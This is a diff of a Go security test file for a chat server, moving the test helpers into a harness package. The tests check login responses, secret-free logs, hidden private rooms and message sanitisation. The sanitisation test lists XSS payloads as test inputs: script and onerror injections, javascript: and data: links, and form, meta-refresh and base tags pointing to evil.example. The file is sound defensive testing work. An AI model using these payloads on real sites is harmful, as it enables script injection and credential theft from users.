@@ -2,7 +2,7 @@
 
 // What must not be told, kept, cached or run, seen from outside.
 
-package main
+package tests
 
 import (
 	"context"
@@ -23,10 +23,10 @@ import (
 
 func TestAWrongPasswordAndAnUnknownNameAreAnsweredAlike(t *testing.T) {
 	t.Parallel()
-	p := start(t, "--sign-in-attempts=1000")
-	p.setUp(t)
+	p := harness.Start(t, "--sign-in-attempts=1000")
+	p.SetUp(t)
 	ask := func(name string) (int, string, http.Header) {
-		resp, body := p.asks(t, http.MethodPost, "/api/login", asJSON(t, chat.Login{Name: name, Password: "wrong password"}), nil)
+		resp, body := p.asks(t, http.MethodPost, "/api/login", harness.AsJSON(t, chat.Login{Name: name, Password: "wrong password"}), nil)
 		resp.Header.Del("Date")
 		return resp.StatusCode, body, resp.Header
 	}
@@ -74,56 +74,56 @@ func TestNoSecretIsEverLogged(t *testing.T) {
 	slog.SetDefault(slog.New(slog.NewTextHandler(log, &slog.HandlerOptions{Level: slog.LevelDebug})))
 	defer slog.SetDefault(before)
 	const canary = "canary-in-a-message"
-	p := start(t, "--messages-burst=5", "--messages-per-second=1")
+	p := harness.Start(t, "--messages-burst=5", "--messages-per-second=1")
 	setupCode := p.setupCode(t)
-	ann := p.setUp(t)
+	ann := p.SetUp(t)
 	var invite chat.Invite
-	ann.post(t, "/api/invites", chat.NewInvite{}, http.StatusCreated, &invite)
-	bob := p.signUp(t, ann, "bob")
+	ann.Post(t, "/api/invites", chat.NewInvite{}, http.StatusCreated, &invite)
+	bob := p.SignUp(t, ann, "bob")
 	token := bob.token(t)
 	made := ann.makesToken(t, chat.NewToken{Bot: "builds", Name: canary, Scopes: allScopes})
 	builds := p.bot(t, made)
 	builds.notifies(t, canary, canary, "bob")
-	builds.dialBearer(t)
-	builds.refused(t, chat.Invalid, http.MethodPost, "/api/notifications", chat.NewNotification{To: []string{canary}, Title: canary, Key: canary})
-	ann.try(t, http.MethodGet, "/api/me?token="+made.Token, nil)
-	general := ann.room(t, "general").ID
-	s := ann.dial(t)
-	draft := chat.Draft{ClientID: newClientID(), Body: canary}
-	s.ask(t, "message.send", chat.MessageSend{RoomID: general, Draft: draft}, nil)
+	builds.DialBearer(t)
+	builds.Refused(t, chat.Invalid, http.MethodPost, "/api/notifications", chat.NewNotification{To: []string{canary}, Title: canary, Key: canary})
+	ann.Try(t, http.MethodGet, "/api/me?token="+made.Token, nil)
+	general := ann.Room(t, "general").ID
+	s := ann.Dial(t)
+	draft := chat.Draft{ClientID: chat.NewClientID(), Body: canary}
+	s.Ask(t, "message.send", chat.MessageSend{RoomID: general, Draft: draft}, nil)
 	draft.Body += " again"
-	s.askRefused(t, chat.ClientIDReused, "message.send", chat.MessageSend{RoomID: general, Draft: draft})
-	ann.post(t, messagesPath(general), chat.Draft{ClientID: newClientID(), Body: canary}, http.StatusCreated, nil)
-	ann.try(t, http.MethodPost, messagesPath(general), `{"body":"`+canary+`"`)
-	ann.try(t, http.MethodPost, messagesPath(general), `{"`+canary+`":1}`)
-	ann.try(t, http.MethodGet, "/api/rooms/public?query="+canary, nil)
-	ann.try(t, http.MethodGet, "/api/me?token="+token, nil)
-	ann.try(t, http.MethodPost, "/api/login", chat.Login{Name: "ann", Password: "canary-in-a-guess"})
-	ann.try(t, http.MethodPost, "/api/me/password", chat.PasswordChange{Current: "canary-in-a-guess", New: "canary-as-password"})
-	bob.bearer = token
-	bob.get(t, "/api/me", nil)
-	b := bob.dialAnyhow(t, http.Header{})
-	b.send(t, "auth", chat.Auth{Token: token})
-	b.expect(t, "welcome")
-	b.sendRaw(t, canary)
+	s.AskRefused(t, chat.ClientIDReused, "message.send", chat.MessageSend{RoomID: general, Draft: draft})
+	ann.Post(t, harness.MessagesPath(general), chat.Draft{ClientID: chat.NewClientID(), Body: canary}, http.StatusCreated, nil)
+	ann.Try(t, http.MethodPost, harness.MessagesPath(general), `{"body":"`+canary+`"`)
+	ann.Try(t, http.MethodPost, harness.MessagesPath(general), `{"`+canary+`":1}`)
+	ann.Try(t, http.MethodGet, "/api/rooms/public?query="+canary, nil)
+	ann.Try(t, http.MethodGet, "/api/me?token="+token, nil)
+	ann.Try(t, http.MethodPost, "/api/login", chat.Login{Name: "ann", Password: "canary-in-a-guess"})
+	ann.Try(t, http.MethodPost, "/api/me/password", chat.PasswordChange{Current: "canary-in-a-guess", New: "canary-as-password"})
+	bob.Bearer = token
+	bob.Get(t, "/api/me", nil)
+	b := bob.DialAnyhow(t, http.Header{})
+	b.Send(t, "auth", chat.Auth{Token: token})
+	b.Expect(t, "welcome")
+	b.SendRaw(t, canary)
 	<-b.closed
-	bob.dialAnyhow(t, http.Header{"Authorization": {"Bearer " + token + "x"}}).expectClosed(t, chat.CloseSignedOut)
-	s.sendRaw(t, `{"event":"`+canary+`","id":"1"}`)
-	s.answer(t, "1")
-	bob.post(t, "/api/logout", nil, http.StatusNoContent, nil)
+	bob.DialAnyhow(t, http.Header{"Authorization": {"Bearer " + token + "x"}}).ExpectClosed(t, chat.CloseSignedOut)
+	s.SendRaw(t, `{"event":"`+canary+`","id":"1"}`)
+	s.Answer(t, "1")
+	bob.Post(t, "/api/logout", nil, http.StatusNoContent, nil)
 	p.stop()
 	text := log.String()
 	if !strings.Contains(text, "socket connected") || !strings.Contains(text, "path=/api/login") {
 		t.Fatalf("the log was not caught: %s", text)
 	}
 	var cookie string
-	address, _ := url.Parse(p.url)
+	address, _ := url.Parse(p.URL)
 	for _, c := range ann.client.Jar.Cookies(address) {
 		cookie = c.Value
 	}
 	for what, secret := range map[string]string{
 		"the code of the set-up": setupCode, "the code of an invite": invite.Code, "a token": token, "a program's token": made.Token, "a cookie": cookie,
-		"a signature": token[strings.LastIndex(token, ".")+1:], "a password": goodPassword, "a message or a guess": "canary",
+		"a signature": token[strings.LastIndex(token, ".")+1:], "a password": harness.GoodPassword, "a message or a guess": "canary",
 	} {
 		if secret == "" || strings.Contains(text, secret) {
 			i := strings.Index(text, secret)
@@ -134,14 +134,14 @@ func TestNoSecretIsEverLogged(t *testing.T) {
 
 func TestAnswersSayHowTheyMayBeUsed(t *testing.T) {
 	t.Parallel()
-	p := start(t)
-	ann := p.setUp(t)
+	p := harness.Start(t)
+	ann := p.SetUp(t)
 	token := ann.token(t)
-	general := ann.room(t, "general").ID
-	ann.says(t, general, "text")
+	general := ann.Room(t, "general").ID
+	ann.Says(t, general, "text")
 	bearer := http.Header{"Authorization": {"Bearer " + token}}
 	for _, path := range []string{
-		"/api/me", "/api/users", "/api/rooms", "/api/rooms/public", roomPath(general), messagesPath(general), roomPath(general) + "/members",
+		"/api/me", "/api/users", "/api/rooms", "/api/rooms/public", harness.RoomPath(general), harness.MessagesPath(general), harness.RoomPath(general) + "/members",
 		"/api/invites", "/api/server", "/api/rooms/999", "/api/nothing", "/api/me.css", "/api/rooms/1/x.css",
 	} {
 		resp, body := p.asks(t, http.MethodGet, path, "", bearer)
@@ -178,11 +178,11 @@ func TestAnswersSayHowTheyMayBeUsed(t *testing.T) {
 // A room that one may not see must not be told from one that does not exist.
 func TestRoomsCannotBeCounted(t *testing.T) {
 	t.Parallel()
-	p := start(t)
-	ann := p.setUp(t)
-	eve := p.signUp(t, ann, "eve")
-	secret := ann.creates(t, chat.Private, "secret")
-	ann.says(t, secret.ID, "text")
+	p := harness.Start(t)
+	ann := p.SetUp(t)
+	eve := p.SignUp(t, ann, "eve")
+	secret := ann.Creates(t, chat.Private, "secret")
+	ann.Says(t, secret.ID, "text")
 	for _, c := range []struct {
 		method, path string
 		in           any
@@ -196,28 +196,28 @@ func TestRoomsCannotBeCounted(t *testing.T) {
 		{http.MethodDelete, "/members/1", nil},
 		{http.MethodGet, "/messages", nil},
 		{http.MethodGet, "/messages?around=1", nil},
-		{http.MethodPost, "/messages", chat.Draft{ClientID: newClientID(), Body: "x"}},
+		{http.MethodPost, "/messages", harness.Draft("x")},
 		{http.MethodDelete, "/messages/1", nil},
 		{http.MethodPut, "/messages/1/reactions/👍", nil},
 		{http.MethodPut, "/read", map[string]int{"read_seq": 0}},
 	} {
-		status, body := eve.try(t, c.method, roomPath(secret.ID)+c.path, c.in)
-		wantStatus, wantBody := eve.try(t, c.method, roomPath(999)+c.path, c.in)
+		status, body := eve.Try(t, c.method, harness.RoomPath(secret.ID)+c.path, c.in)
+		wantStatus, wantBody := eve.Try(t, c.method, harness.RoomPath(999)+c.path, c.in)
 		if status != http.StatusNotFound || status != wantStatus || string(body) != string(wantBody) {
 			t.Errorf("%s %s: got %d %s for a room that is, %d %s for one that is not", c.method, c.path, status, body, wantStatus, wantBody)
 		}
 	}
 	// A name is taken or not, which tells of a private room: names are one space, by design.
-	eve.refused(t, chat.NameTaken, http.MethodPost, "/api/rooms", chat.NewRoom{Kind: chat.Public, Name: "secret"})
+	eve.Refused(t, chat.NameTaken, http.MethodPost, "/api/rooms", chat.NewRoom{Kind: chat.Public, Name: "secret"})
 }
 
 // The corpus of internal/markdown is about the renderer; this one is about what leaves the server.
 func TestNoMessageRunsAnything(t *testing.T) {
 	t.Parallel()
-	p := start(t, "--messages-burst=1000")
-	ann := p.setUp(t)
-	general := ann.room(t, "general").ID
-	s := ann.dial(t)
+	p := harness.Start(t, "--messages-burst=1000")
+	ann := p.SetUp(t)
+	general := ann.Room(t, "general").ID
+	s := ann.Dial(t)
 	for _, body := range []string{
 		"<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "[x](javascript:alert(1))", "[x](JaVaScRiPt:alert(1))",
 		"[x](java\tscript:alert(1))", "[x](data:text/html,<script>alert(1)</script>)", "[x](vbscript:msgbox(1))", "<javascript:alert(1)>",
@@ -230,13 +230,13 @@ func TestNoMessageRunsAnything(t *testing.T) {
 		"| a | b |\n|---|---|\n| <script> | [x](javascript:1) |", "<form action=//evil.example><input name=password>", "<base href=//evil.example>",
 		"<meta http-equiv=refresh content=0;url=//evil.example>", "<link rel=stylesheet href=//evil.example>", "<object data=//evil.example>",
 	} {
-		sent := s.says(t, general, body)
-		m := s.expectMessage(t)
+		sent := s.Says(t, general, body)
+		m := s.ExpectMessage(t)
 		if m.Seq != sent.Seq || m.Body != body {
 			t.Fatalf("got %+v, want what was sent: %q", m, body)
 		}
 		checkHTML(t, body, m.HTML)
-		if stored := ann.history(t, general, "?limit=1").Messages[0]; stored.HTML != m.HTML {
+		if stored := ann.History(t, general, "?limit=1").Messages[0]; stored.HTML != m.HTML {
 			t.Errorf("%.60q: stored %q, told %q", body, stored.HTML, m.HTML)
 		}
 	}
